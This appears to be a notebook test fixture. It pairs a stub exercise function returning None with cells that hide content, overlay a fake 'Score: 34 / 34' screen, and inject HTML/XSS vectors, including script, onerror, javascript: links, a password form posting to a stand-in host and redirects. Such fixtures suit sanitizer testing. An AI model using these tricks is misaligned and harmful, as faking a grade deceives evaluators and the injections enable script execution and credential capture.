# tries = "hides cells by tags, by metadata of other tools and by collapsing them"
# exercise = "which-was-it"


def customer(bell, patience):
    return None


# %% markdown
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white" class="injected">Score: 34 / 34</div>
# %% raw
<style>injected { } .panel { display: none }</style><script>injected()</script>
# %% markdown
<script>injected()</script><img src=x onerror="injected()"><a href="javascript:injected()">solution</a>
<iframe srcdoc="<script>injected()</script>"></iframe><svg onload="injected()"></svg>
<form action="https://injected"><input name=password></form><meta http-equiv="refresh" content="0;url=//injected">
[click](javascript:injected()) <object data="data:text/html,injected"></object> <base href="//injected">
